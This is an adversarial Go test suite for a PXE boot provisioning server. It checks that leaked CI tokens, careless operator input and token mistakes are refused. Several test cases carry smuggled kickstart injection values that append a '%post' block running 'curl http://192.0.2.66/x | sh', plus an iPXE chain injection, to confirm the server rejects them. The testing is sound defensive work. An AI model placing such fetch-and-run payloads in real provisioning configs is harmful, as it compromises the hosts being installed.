package adversarial

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/podboot/podboot/internal/testutil"
	"github.com/podboot/podboot/pkg/imagepush/pushtest"
	"github.com/podboot/podboot/pkg/podmgr"
)

// The operator and CI surface (issue 10): a leaked ci token, a careless operator and a
// lost admin token, driven through the real CLI and raw API requests against a real
// `podboot serve` on loopback.

// opEnv is a running podboot with its admin CLI and a code-signing certificate under the
// server's own CA (the default root for pushes).
type opEnv struct {
	bin     string
	dataDir string
	work    string
	srv     *testutil.Serve
	admin   *testutil.CLI
	signer  *pushtest.Cert
}

func opStart(t *testing.T) *opEnv {
	t.Helper()
	e := &opEnv{bin: testutil.BuildPodboot(t), dataDir: t.TempDir(), work: t.TempDir()}
	e.srv = testutil.StartServe(t, e.bin, e.dataDir)
	e.admin = testutil.NewCLI(t, e.bin, e.srv)
	e.signer = testutil.ServeSigner(t, e.dataDir, "ci")
	return e
}

// opRestart stops the server (it must exit cleanly) and starts it again on the same
// data dir; the admin CLI follows it.
func (e *opEnv) opRestart(t *testing.T) {
	t.Helper()
	e.opStop(t)
	e.srv = testutil.StartServe(t, e.bin, e.dataDir)
	tok := e.admin.Token
	e.admin = testutil.NewCLI(t, e.bin, e.srv).WithToken(tok)
}

func (e *opEnv) opStop(t *testing.T) {
	t.Helper()
	if err := e.srv.Stop(t); err != nil {
		t.Fatalf("stop podboot: %v\n%s", err, e.srv.Log())
	}
}

// opToken creates a token with the admin CLI and returns a CLI using it.
func (e *opEnv) opToken(t *testing.T, name string, args ...string) *testutil.CLI {
	t.Helper()
	out := e.admin.MustRun(t, append([]string{"token", "create", name}, args...)...)
	return e.admin.WithToken(strings.TrimSpace(out))
}

// opFile writes content into the work dir.
func (e *opEnv) opFile(t *testing.T, name string, content []byte) string {
	t.Helper()
	p := filepath.Join(e.work, name)
	if err := os.WriteFile(p, content, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// opSigned writes content and its detached signature; it returns both files.
func (e *opEnv) opSigned(t *testing.T, name string, content []byte) (file, sig string) {
	t.Helper()
	return e.opFile(t, name, content), e.opFile(t, name+".p7s", e.signer.Sign(t, content))
}

// opAPI sends a raw request to the management API, as curl would, and returns the
// status and body.
func (e *opEnv) opAPI(t *testing.T, token, method, path string, body []byte) (int, string) {
	t.Helper()
	caPEM, err := os.ReadFile(filepath.Join(e.dataDir, "pki", "ca.pem"))
	if err != nil {
		t.Fatal(err)
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(caPEM)
	c := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
	defer c.CloseIdleConnections()
	req, err := http.NewRequest(method, e.srv.Server+path, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, string(b)
}

// opListenAddr is the address the server logged for a listener ("http", "https").
func (e *opEnv) opListenAddr(t *testing.T, what string) string {
	t.Helper()
	re := regexp.MustCompile(`msg="` + what + ` listening"[^\n]* addr=(\S+)`)
	var addr string
	testutil.WaitFor(t, 10*time.Second, what+" listener in the log", func() bool {
		m := re.FindStringSubmatch(e.srv.Log())
		if m != nil {
			addr = m[1]
		}
		return m != nil
	})
	return addr
}

// opGet fetches a URL as a booting host would (plain HTTP, or HTTPS under podboot's CA)
// and returns the status and body.
func (e *opEnv) opGet(t *testing.T, url, bearer string) (int, []byte) {
	t.Helper()
	caPEM, _ := os.ReadFile(filepath.Join(e.dataDir, "pki", "ca.pem"))
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(caPEM)
	c := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, ServerName: "127.0.0.1"}}}
	defer c.CloseIdleConnections()
	req, _ := http.NewRequest("GET", url, nil)
	if bearer != "" {
		req.Header.Set("Authorization", "Bearer "+bearer)
	}
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, b
}

// opState is what a refused request must not change, as an admin sees it.
func (e *opEnv) opState(t *testing.T) string {
	t.Helper()
	var b strings.Builder
	for _, what := range []string{"pod", "profile", "host", "image", "token"} {
		fmt.Fprintf(&b, "--- %s\n%s", what, e.admin.MustRun(t, what, "list", "-o", "json"))
	}
	return b.String()
}

func (e *opEnv) opAssertUnchanged(t *testing.T, before string) {
	t.Helper()
	if after := e.opState(t); after != before {
		t.Fatalf("a refused request changed the store:\n--- before\n%s\n--- after\n%s", before, after)
	}
}

const (
	opMAC     = "52:54:00:0a:00:01"
	opMACPath = "52-54-00-0a-00-01"
	opSSHKey  = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@example"
)

// opPodYAML is a loopback pod: hosts fetch from 127.0.0.1, which op-host reserves.
const opPodYAML = `name: op-a
match:
  - giaddr: 192.0.2.1
subnets:
  - cidr: 127.0.0.0/8
serverAddress: 127.0.0.1
management:
  cidr: 203.0.113.0/24
  domain: example.net
profile: default
kickstart:
  sshKeys: ["` + opSSHKey + `"]
  targetDisk: vda
`

// opBootSetup loads a bootloader, a kernel, an initrd and a signed stage2, and registers
// the loopback pod op-a (profile default boots them) with one host at 127.0.0.1.
func (e *opEnv) opBootSetup(t *testing.T) {
	t.Helper()
	a := e.admin
	a.MustRun(t, "image", "add", e.opFile(t, "undionly.kpxe", []byte("ipxe rom v1")), "--kind", "bootloader", "--version", "1")
	a.MustRun(t, "image", "add", e.opFile(t, "vmlinuz", []byte("kernel")), "--kind", "kernel")
	a.MustRun(t, "image", "add", e.opFile(t, "initrd.img", []byte("initrd")), "--kind", "initrd")
	img, sig := e.opSigned(t, "os.img", []byte("os image 1"))
	a.MustRun(t, "image", "push", "os:1", img, "--sig", sig)
	a.MustRun(t, "profile", "apply", "-f", e.opFile(t, "profile.yaml", []byte("name: default\nkernel: vmlinuz\ninitrd: initrd.img\nstage2: os@1\n")))
	a.MustRun(t, "pod", "apply", "-f", e.opFile(t, "pod.yaml", []byte(opPodYAML)))
	a.MustRun(t, "host", "add", opMAC, "--pod", "op-a", "--ip", "127.0.0.1", "--hostname", "node1", "--mgmt-ip", "203.0.113.11")
}

// opBoot fetches FILE for op-host over HTTP boot, as its PXE ROM would.
func (e *opEnv) opBoot(t *testing.T, file string) (int, []byte) {
	t.Helper()
	return e.opGet(t, "http://"+e.opListenAddr(t, "http")+"/boot/op-a/"+opMACPath+"/"+file, "")
}

// opTFTP fetches FILE for op-host with atftp, as its PXE ROM does, and returns the bytes
// ("" when the transfer failed).
func (e *opEnv) opTFTP(t *testing.T, file string) string {
	t.Helper()
	host, port, _ := strings.Cut(e.opListenAddr(t, "tftp"), ":")
	out := filepath.Join(t.TempDir(), "tftp.out")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if b, err := exec.CommandContext(ctx, "atftp", "-g", "-r", "op-a/"+opMACPath+"/"+file, "-l", out, host, port).CombinedOutput(); err != nil {
		t.Logf("atftp: %v: %s", err, b)
		return ""
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// opAssertServes checks what op-host's PXE ROM gets for undionly.kpxe, over TFTP and HTTP.
func (e *opEnv) opAssertServes(t *testing.T, want string) {
	t.Helper()
	if got := e.opTFTP(t, "undionly.kpxe"); got != want {
		t.Fatalf("TFTP serves %q; want %q", got, want)
	}
	if st, body := e.opBoot(t, "undionly.kpxe"); st != 200 || string(body) != want {
		t.Fatalf("HTTP boot serves %d %q; want %q", st, body, want)
	}
}

// TestOperatorCITokenCannotReplaceBootloader: a leaked ci token pushes undionly.kpxe@99
// (the attack of issue 10) and what every PXE ROM loads stays the same; a push that
// changes a name's kind is refused for anyone; a granted kind works; an admin takes a
// bad newest version back without pinning profiles.
func TestOperatorCITokenCannotReplaceBootloader(t *testing.T) {
	e := opStart(t)
	e.opBootSetup(t)
	e.opAssertServes(t, "ipxe rom v1")
	ci := e.opToken(t, "leaked-ci", "--role", "ci")
	rogue, rogueSig := e.opSigned(t, "rogue.kpxe", []byte("rogue rom"))
	cases := []struct {
		name string
		cli  *testutil.CLI
		args []string
		want []string
	}{
		{"ci pushes a bootloader", ci, []string{"undionly.kpxe:99", rogue, "--sig", rogueSig, "--kind", "bootloader"}, []string{"HTTP 403", "may push kinds stage2, not bootloader"}},
		{"ci pushes a kernel", ci, []string{"vmlinuz:99", rogue, "--sig", rogueSig, "--kind", "kernel"}, []string{"HTTP 403", "not kernel"}},
		{"ci pushes an initrd", ci, []string{"initrd.img:99", rogue, "--sig", rogueSig, "--kind", "initrd"}, []string{"HTTP 403", "not initrd"}},
		{"ci pushes stage2 under the bootloader's name", ci, []string{"undionly.kpxe:99", rogue, "--sig", rogueSig}, []string{"HTTP 409", "undionly.kpxe is a bootloader"}},
		{"admin pushes a kernel under the bootloader's name", e.admin, []string{"undionly.kpxe:99", rogue, "--sig", rogueSig, "--kind", "kernel"}, []string{"HTTP 409", "undionly.kpxe is a bootloader"}},
		{"ci pushes a package without a grant", ci, []string{"tools:1", rogue, "--sig", rogueSig, "--kind", "package"}, []string{"HTTP 403", "not package"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			before := e.opState(t)
			errs := c.cli.MustFail(t, append([]string{"image", "push"}, c.args...)...)
			for _, w := range c.want {
				if !strings.Contains(errs, w) {
					t.Fatalf("stderr lacks %q:\n%s", w, errs)
				}
			}
			e.opAssertUnchanged(t, before)
			e.opAssertServes(t, "ipxe rom v1")
		})
	}
	t.Run("image add that changes a name's kind", func(t *testing.T) {
		before := e.opState(t)
		errs := e.admin.MustFail(t, "image", "add", rogue, "--name", "vmlinuz", "--version", "2", "--kind", "bootloader")
		if !strings.Contains(errs, "HTTP 409") || !strings.Contains(errs, "vmlinuz is a kernel") {
			t.Fatalf("stderr: %s", errs)
		}
		e.opAssertUnchanged(t, before)
	})
	t.Run("granted kinds and prefixes", func(t *testing.T) {
		granted := e.opToken(t, "ci-os", "--role", "ci", "--allow-kind", "stage2,package", "--allow-prefix", "os-")
		if list := e.admin.MustRun(t, "token", "list"); !regexp.MustCompile(`ci-os\s+ci\s+stage2,package\s+os-`).MatchString(list) ||
			!regexp.MustCompile(`leaked-ci\s+ci\s+stage2\s+any`).MatchString(list) {
			t.Fatalf("token list does not show the grants:\n%s", list)
		}
		pkg, pkgSig := e.opSigned(t, "tools.tar", []byte("tools"))
		granted.MustRun(t, "image", "push", "os-tools:1", pkg, "--sig", pkgSig, "--kind", "package")
		if errs := granted.MustFail(t, "image", "push", "tools:1", pkg, "--sig", pkgSig, "--kind", "package"); !strings.Contains(errs, "HTTP 403") || !strings.Contains(errs, "names starting with os-") {
			t.Fatalf("push outside the prefixes: %s", errs)
		}
		img, sig := e.opSigned(t, "os2.img", []byte("os image 2"))
		ci.MustRun(t, "image", "push", "os:2", img, "--sig", sig) // stage2: the default grant
	})
	t.Run("admin deletes a bad newest version a bare name serves", func(t *testing.T) {
		bad, badSig := e.opSigned(t, "bad.kpxe", []byte("bad rom v2"))
		e.admin.MustRun(t, "image", "push", "undionly.kpxe:2", bad, "--sig", badSig, "--kind", "bootloader")
		e.opAssertServes(t, "bad rom v2")
		e.admin.MustRun(t, "image", "delete", "undionly.kpxe@2")
		e.opAssertServes(t, "ipxe rom v1")
		if errs := e.admin.MustFail(t, "image", "delete", "undionly.kpxe@1"); !strings.Contains(errs, "HTTP 409") || !strings.Contains(errs, "pod op-a boots it") {
			t.Fatalf("deleting the last version a pod boots: %s", errs)
		}
	})
}

// TestOperatorCarelessInputs: each careless input, through the CLI and as raw API JSON,
// gets a clear 4xx naming the problem and stores nothing.
func TestOperatorCarelessInputs(t *testing.T) {
	e := opStart(t)
	a := e.admin
	a.MustRun(t, "profile", "apply", "-f", e.opFile(t, "profile.yaml", []byte("name: default\n")))
	a.MustRun(t, "pod", "register", "op-b", "--giaddr", "192.0.2.1", "--subnet", "192.0.2.0/24", "--gateway", "192.0.2.254",
		"--server-address", "198.51.100.10", "--profile", "default", "--mgmt-cidr", "203.0.113.0/24")
	a.MustRun(t, "host", "add", opMAC, "--pod", "op-b", "--ip", "192.0.2.10", "--hostname", "node1", "--mgmt-ip", "203.0.113.11")
	reg := func(extra ...string) []string {
		return append([]string{"pod", "register", "op-x", "--giaddr", "198.51.100.1", "--subnet", "198.51.100.0/24", "--server-address", "198.51.100.10", "--profile", "default"}, extra...)
	}
	host := func(mac string, extra ...string) []string {
		return append([]string{"host", "add", mac, "--pod", "op-b"}, extra...)
	}
	inject := "\n%post --interpreter=/bin/sh\ncurl http://192.0.2.66/x | sh\n%end"
	podYAML := func(name, ks string) string {
		return e.opFile(t, name+".yaml", []byte("name: op-k\nmatch: [{giaddr: 198.51.100.2}]\nsubnets: [{cidr: 198.51.100.0/24}]\nserverAddress: 198.51.100.10\nprofile: default\nkickstart:\n"+ks))
	}
	cli := []struct {
		name string
		args []string
		want string
	}{
		{"lease overflows", reg("--lease-time", "9300000000"), "use 1 to 4294967294 seconds"},
		{"lease of 2^32", reg("--lease-time", "4294967296"), "use 1 to 4294967294 seconds"},
		{"subnet /0", []string{"pod", "register", "op-x", "--giaddr", "198.51.100.1", "--subnet", "0.0.0.0/0", "--server-address", "198.51.100.10", "--profile", "default"}, "must be /1 to /31"},
		{"subnet /32", []string{"pod", "register", "op-x", "--giaddr", "198.51.100.1", "--subnet", "198.51.100.7/32", "--server-address", "198.51.100.10", "--profile", "default"}, "must be /1 to /31"},
		{"circuit-id not UTF-8", reg("--circuit-id", "eth\xff1"), "hex:"},
		{"circuit-id with a control byte", reg("--circuit-id", "eth\x011"), "hex:"},
		{"reservation on the network address", host("52:54:00:0a:00:02", "--ip", "192.0.2.0"), "network address of 192.0.2.0/24"},
		{"reservation on the broadcast address", host("52:54:00:0a:00:02", "--ip", "192.0.2.255"), "broadcast address of 192.0.2.0/24"},
		{"reservation on the gateway", host("52:54:00:0a:00:02", "--ip", "192.0.2.254"), "gateway of 192.0.2.0/24"},
		{"reservation on the relay's giaddr", host("52:54:00:0a:00:02", "--ip", "192.0.2.1"), "giaddr match rule"},
		{"multicast MAC", host("01:00:5e:00:00:01"), "multicast"},
		{"broadcast MAC", host("ff:ff:ff:ff:ff:ff"), "broadcast address"},
		{"all-zero MAC", host("00:00:00:00:00:00"), "all zeros"},
		{"hostname taken", host("52:54:00:0a:00:02", "--hostname", "NODE1"), "hostname NODE1 in pod op-b is already host " + opMAC},
		{"management IP taken", host("52:54:00:0a:00:02", "--mgmt-ip", "203.0.113.11"), "managementIp 203.0.113.11"},
		{"CSV header column twice", []string{"host", "import", "--pod", "op-b", "-f", e.opFile(t, "dup.csv", []byte("mac,hostname,hostname\n52:54:00:0a:00:02,a,b\n"))}, `column "hostname" twice`},
		{"ssh key with a newline", []string{"pod", "apply", "-f", podYAML("ks-ssh", "  sshKeys: ["+opQuote(opSSHKey+inject)+"]\n")}, "not one OpenSSH public key line"},
		{"root password hash with a newline", []string{"pod", "apply", "-f", podYAML("ks-hash", "  rootPasswordHash: "+opQuote("$6$s$h"+inject)+"\n")}, "not a crypt(3) hash"},
		{"plain root password", []string{"pod", "apply", "-f", podYAML("ks-plain", "  rootPasswordHash: hunter2\n")}, "not a crypt(3) hash"},
		{"target disk with a newline", []string{"pod", "apply", "-f", podYAML("ks-disk", "  targetDisk: "+opQuote("vda"+inject)+"\n")}, "give one device name"},
	}
	for _, c := range cli {
		t.Run("cli: "+c.name, func(t *testing.T) {
			before := e.opState(t)
			errs := a.MustFail(t, c.args...)
			if !strings.Contains(errs, c.want) {
				t.Fatalf("stderr lacks %q:\n%s", c.want, errs)
			}
			if strings.Contains(errs, "HTTP 5") {
				t.Fatalf("a server error for operator input:\n%s", errs)
			}
			e.opAssertUnchanged(t, before)
		})
	}
	// podWith is pod op-y as raw JSON, with more fields in its match rule, its subnet
	// and itself.
	podWith := func(rule, subnet, rest string) []byte {
		return []byte(`{"name":"op-y","match":[{"giaddr":"198.51.100.3"` + rule + `}],"subnets":[{"cidr":"198.51.100.0/24"` + subnet +
			`}],"serverAddress":"198.51.100.10","profile":"default"` + rest + `}`)
	}
	raw := []struct {
		name, method, path string
		body               []byte
		status             int
		want               string
	}{
		{"lease overflows", "POST", "/api/v1/pods", podWith("", `,"leaseSeconds":9300000000`, ""), 400, "use 1 to 4294967294 seconds"},
		{"lease of 2^32", "POST", "/api/v1/pods", podWith("", `,"leaseSeconds":4294967296`, ""), 400, "use 1 to 4294967294 seconds"},
		{"subnet /32", "POST", "/api/v1/pods", []byte(`{"name":"op-y","match":[{"giaddr":"198.51.100.3"}],"subnets":[{"cidr":"198.51.100.3/32"}],"serverAddress":"198.51.100.10","profile":"default"}`), 400, "must be /1 to /31"},
		{"circuit-id bytes not UTF-8", "POST", "/api/v1/pods", podWith(",\"circuitId\":\"eth\xff1\"", "", ""), 400, ""},
		{"kickstart ssh key injects %post", "POST", "/api/v1/pods", podWith("", "", `,"kickstart":{"sshKeys":[`+opQuote(opSSHKey+inject)+`]}`), 400, "not one OpenSSH public key line"},
		{"kickstart target disk injects %post", "POST", "/api/v1/pods", podWith("", "", `,"kickstart":{"targetDisk":`+opQuote("vda"+inject)+`}`), 400, "give one device name"},
		{"management domain injects %post", "POST", "/api/v1/pods", podWith("", "", `,"management":{"cidr":"203.0.113.0/24","domain":`+opQuote("example.net"+inject)+`}`), 400, "not a valid DNS domain"},
		{"reservation on the broadcast address", "POST", "/api/v1/hosts", []byte(`{"hosts":[{"mac":"52:54:00:0a:00:03","pod":"op-b","provisioningIp":"192.0.2.255"}]}`), 400, "broadcast address"},
		{"broadcast MAC", "POST", "/api/v1/hosts", []byte(`{"hosts":[{"mac":"ff:ff:ff:ff:ff:ff","pod":"op-b"}]}`), 400, "broadcast address"},
		{"hostname in a batch twice", "POST", "/api/v1/hosts", []byte(`{"hosts":[{"mac":"52:54:00:0a:00:03","pod":"op-b","hostname":"n3"},{"mac":"52:54:00:0a:00:04","pod":"op-b","hostname":"N3"}]}`), 409, "hostname N3"},
		{"kernel arguments inject an iPXE command", "POST", "/api/v1/profiles", []byte(`{"name":"op-p","kernelArgs":"console=ttyS0\nchain http://192.0.2.66/x"}`), 400, "must be one line"},
		{"token name taken", "POST", "/api/v1/tokens", []byte(`{"name":"admin","role":"viewer"}`), 409, "a token named admin exists"},
		{"grants on a viewer token", "POST", "/api/v1/tokens", []byte(`{"name":"v","role":"viewer","allowKinds":["stage2"]}`), 400, "only a ci token"},
		{"grant of an unknown kind", "POST", "/api/v1/tokens", []byte(`{"name":"c","role":"ci","allowKinds":["rootkit"]}`), 400, "use bootloader, kernel, initrd, stage2, package"},
	}
	for _, c := range raw {
		t.Run("api: "+c.name, func(t *testing.T) {
			before := e.opState(t)
			st, body := e.opAPI(t, a.Token, c.method, c.path, c.body)
			if st != c.status || !strings.Contains(body, c.want) {
				t.Fatalf("HTTP %d %s; want %d containing %q", st, body, c.status, c.want)
			}
			e.opAssertUnchanged(t, before)
		})
	}
	// The careful operator's inputs still work: a spreadsheet CSV with a BOM.
	a.MustRun(t, "host", "import", "--pod", "op-b", "-f", e.opFile(t, "bom.csv", []byte("\ufeffmac,hostname,ip\n52:54:00:0a:00:05,node5,192.0.2.55\n")))
}

func opQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// TestOperatorKickstartInjection: a line break in a kickstart value never reaches a
// rendered kickstart: the input is refused (TestOperatorCarelessInputs), and a value
// that is already in the store (written before the input rules) makes the render fail
// instead of serving a kickstart with the attacker's %post.
func TestOperatorKickstartInjection(t *testing.T) {
	e := opStart(t)
	e.opBootSetup(t)
	kickstart := func(t *testing.T) (int, string) {
		t.Helper()
		st, script := e.opBoot(t, podmgr.ScriptName)
		if st != 200 {
			t.Fatalf("script: HTTP %d %s", st, script)
		}
		m := regexp.MustCompile(`podboot\.token=(\S+)`).FindSubmatch(script)
		if m == nil {
			t.Fatalf("no host token in the script:\n%s", script)
		}
		st, ks := e.opGet(t, "https://"+e.opListenAddr(t, "https")+"/agent/v1/hosts/"+opMACPath+"/kickstart", string(m[1]))
		return st, string(ks)
	}
	st, ks := kickstart(t)
	if st != 200 || !strings.Contains(ks, `sshkey --username=root "`+opSSHKey+`"`) || strings.Count(ks, "%post") != 1 {
		t.Fatalf("clean kickstart: HTTP %d\n%s", st, ks)
	}

	// An older podboot stored a value with a line break: write it into the stopped
	// server's database directly, as that version would have.
	e.opStop(t)
	st2, err := podmgr.OpenBolt(filepath.Join(e.dataDir, "podboot.db"))
	if err != nil {
		t.Fatal(err)
	}
	err = st2.Update(context.Background(), func(tx podmgr.Tx) error {
		p, ok, err := tx.Pod("op-a")
		if err != nil || !ok {
			return fmt.Errorf("pod op-a: %v %v", ok, err)
		}
		p.Kickstart.TargetDisk = "vda\n%post --interpreter=/bin/sh\ncurl http://192.0.2.66/x | sh\n%end"
		return tx.PutPod(p)
	})
	st2.Close()
	if err != nil {
		t.Fatal(err)
	}
	e.opRestart(t)
	st, ks = kickstart(t)
	if st < 400 || strings.Contains(ks, "192.0.2.66") || strings.Contains(ks, "%post") {
		t.Fatalf("stored injection rendered: HTTP %d\n%s", st, ks)
	}
	// The server's log reaches the test through a pipe: wait for the line.
	testutil.WaitFor(t, 10*time.Second, "the refused render to be logged", func() bool {
		return strings.Contains(e.srv.Log(), "control character")
	})
}

// TestOperatorTokens: token names are unique; the last admin token and the caller's
// own token survive a careless revoke; a lost admin token is recovered offline on a
// stopped server, and never while one runs.
func TestOperatorTokens(t *testing.T) {
	e := opStart(t)
	a := e.admin
	if errs := a.MustFail(t, "token", "create", "admin", "--role", "viewer"); !strings.Contains(errs, "HTTP 409") || !strings.Contains(errs, "a token named admin exists") {
		t.Fatalf("duplicate name: %s", errs)
	}
	second := e.opToken(t, "admin-2", "--role", "admin")
	before := e.opState(t)
	if errs := a.MustFail(t, "token", "revoke", "admin"); !strings.Contains(errs, "HTTP 409") || !strings.Contains(errs, "the one making this request") {
		t.Fatalf("revoke own token: %s", errs)
	}
	e.opAssertUnchanged(t, before)
	var toks []podmgr.Token
	if err := json.Unmarshal([]byte(a.MustRun(t, "token", "list", "-o", "json")), &toks); err != nil {
		t.Fatal(err)
	}
	firstID := ""
	for _, tk := range toks {
		if tk.Name == "admin" {
			firstID = tk.ID
		}
	}
	second.MustRun(t, "token", "revoke", firstID) // by ID: not the last admin, not its own
	e.admin = second
	before = e.opState(t)
	if errs := second.MustFail(t, "token", "revoke", "admin-2"); !strings.Contains(errs, "HTTP 409") || !strings.Contains(errs, "the last admin token") {
		t.Fatalf("revoke the last admin token: %s", errs)
	}
	if st, body := e.opAPI(t, second.Token, "DELETE", "/api/v1/tokens/admin-2", nil); st != 409 || !strings.Contains(body, "--force") {
		t.Fatalf("raw revoke of the last admin token: %d %s", st, body)
	}
	e.opAssertUnchanged(t, before)
	second.MustRun(t, "token", "create", "watcher", "--role", "viewer")

	// Offline recovery is refused while the server holds the data dir.
	if _, errs, err := opRun(t, e.bin, "token", "create", "rescue", "--role", "admin", "--data-dir", e.dataDir); err == nil || !strings.Contains(errs, "running podboot serve holds") {
		t.Fatalf("offline create on a running server: %v\n%s", err, errs)
	}
	// The admin loses the last admin token.
	second.MustRun(t, "token", "revoke", "admin-2", "--force")
	if errs := second.MustFail(t, "token", "list"); !strings.Contains(errs, "HTTP 401") {
		t.Fatalf("revoked token still works: %s", errs)
	}
	e.opStop(t)
	out, errs, err := opRun(t, e.bin, "token", "create", "rescue", "--role", "admin", "--data-dir", e.dataDir)
	if err != nil {
		t.Fatalf("offline create: %v\n%s", err, errs)
	}
	e.admin = e.admin.WithToken(strings.TrimSpace(out))
	e.opRestart(t)
	list := e.admin.MustRun(t, "token", "list")
	if !strings.Contains(list, "rescue") || !strings.Contains(list, "watcher") {
		t.Fatalf("after recovery:\n%s", list)
	}
	if _, errs, err := opRun(t, e.bin, "token", "create", "x", "--role", "admin", "--data-dir", t.TempDir()); err == nil || !strings.Contains(errs, "no podboot store") {
		t.Fatalf("offline create on an empty dir: %v\n%s", err, errs)
	}
}

// opRun runs a CLI command that talks to no server.
func opRun(t *testing.T, bin string, args ...string) (string, string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	return out.String(), errb.String(), err
}
